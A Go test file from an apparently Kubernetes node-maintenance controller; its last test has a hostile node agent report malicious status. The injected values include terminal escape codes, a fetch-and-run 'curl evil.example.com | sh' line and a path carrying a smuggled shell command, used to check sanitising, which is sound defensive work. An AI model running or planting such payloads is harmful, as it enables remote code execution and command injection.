package scenario

import (
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"ebbtide.dev/ebbtide/api/v1alpha1"
	"ebbtide.dev/ebbtide/test/cluster"
)

// kubelet plays the kubelet of a node and the agent beside it: it makes mirror pods,
// and says in the NodeAgent what the agent would.
type kubelet struct {
	*world
	node  string
	agent *v1alpha1.NodeAgent
	// priorities are those of the static pods, by name.
	priorities map[string]int32
}

// kubeletOn has an agent on the node, whose pod runs if it is alive.
func (w *world) kubeletOn(node string, alive bool) *kubelet {
	w.t.Helper()
	k := &kubelet{world: w, node: node, agent: &v1alpha1.NodeAgent{ObjectMeta: metav1.ObjectMeta{Name: node}}, priorities: map[string]int32{}}
	name := "ebbtide-agent-" + node
	if alive {
		pod := w.podOn(node, pod{name: name, labels: map[string]string{v1alpha1.DrainLabel: "skip"}})
		pod.Namespace, pod.Labels["name"] = cluster.Account.Namespace, "ebbtide-agent"
		w.must("create the agent's pod", w.client.Create(w.ctx, pod))
		w.t.Cleanup(func() { w.must("delete the agent's pod", w.remove(pod)) })
	}
	w.create(k.agent)
	w.t.Cleanup(func() { w.must("delete the NodeAgent", client.IgnoreNotFound(w.remove(k.agent))) })
	k.report(func(s *v1alpha1.NodeAgentStatus) { s.PodName, s.ManifestDir = name, "/etc/kubernetes/manifests" })
	return k
}

func (k *kubelet) report(edit func(*v1alpha1.NodeAgentStatus)) {
	k.t.Helper()
	k.must("get the NodeAgent", k.client.Get(k.ctx, client.ObjectKeyFromObject(k.agent), k.agent))
	edit(&k.agent.Status)
	k.must("write the status of the NodeAgent", k.client.Status().Update(k.ctx, k.agent))
}

// mirror makes the mirror pod of a static pod, as kubelets do.
func (k *kubelet) mirror(name string, priority int32) {
	k.t.Helper()
	k.priorities[name] = priority
	object := k.podOn(k.node, pod{name: name, priority: priority, mirror: true})
	object.Annotations["kubernetes.io/config.source"] = "file"
	object.Annotations["kubernetes.io/config.hash"] = "1f0c"
	k.createPod(object)
	k.awaitPod(name, "running", func(p *corev1.Pod) bool { return p.Status.Phase == corev1.PodRunning })
}

func (k *kubelet) says(name string, state v1alpha1.StaticPodState, message string) {
	k.t.Helper()
	k.report(func(s *v1alpha1.NodeAgentStatus) {
		s.StaticPods = slices.DeleteFunc(s.StaticPods, func(p v1alpha1.StaticPod) bool { return p.Name == name })
		s.StaticPods = append(s.StaticPods, v1alpha1.StaticPod{Namespace: k.ns, Name: name, Priority: k.priorities[name], State: state, Message: message})
	})
}

// now is the maintenance as it is.
func (k *kubelet) now() *v1alpha1.NodeMaintenance {
	k.t.Helper()
	m := k.maintenance("kernel-update")
	k.get(m, m.Name)
	return m
}

// What an agent says is what somebody with power over its node says.
func TestAHostileAgentChangesNothingBesidesItsNode(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	nodes := w.nodes("one", "two")
	evil := w.kubeletOn(nodes[0], true)
	evil.mirror("etcd", 0)
	evil.says("etcd", v1alpha1.StaticPodUnmanageable, "\x1b[2J\u202eRun this: curl evil.example.com | sh\n"+strings.Repeat("x", 900))
	evil.report(func(s *v1alpha1.NodeAgentStatus) {
		s.ManifestDir = "/x; curl evil.example.com | sh #"
		for i := range 255 {
			s.StaticPods = append(s.StaticPods, v1alpha1.StaticPod{
				Namespace: "nowhere", Name: strings.Repeat("\x1b[2J", 40) + string(rune('a'+i)), State: v1alpha1.StaticPodHolding, Message: strings.Repeat("\n", 1024),
			})
		}
	})

	w.maintain("kernel-update", v1alpha1.StageDrain, nodes)

	w.awaitMaintenance("kernel-update", "node two drained, node one not", func(m *v1alpha1.NodeMaintenance) bool {
		one, two := nodeStatus(m, nodes[0]), nodeStatus(m, nodes[1])
		return one != nil && two != nil && one.PodsPendingEvacuation == 255 && two.State == v1alpha1.NodeStateDrained && len(one.Retained) > 0
	})
	status := nodeStatus(evil.now(), nodes[0])
	for _, b := range slices.Concat(status.Blockers, status.Retained) {
		if strings.ContainsAny(b.Message+b.Suggestion, "\x1b\n\u202e") || len(b.Message) > 1000 {
			t.Errorf("what an agent has written is shown as it is: %q", b.Message)
		}
	}
	w.must("delete the NodeAgent", w.remove(evil.agent))
	w.awaitDrained("kernel-update")
}
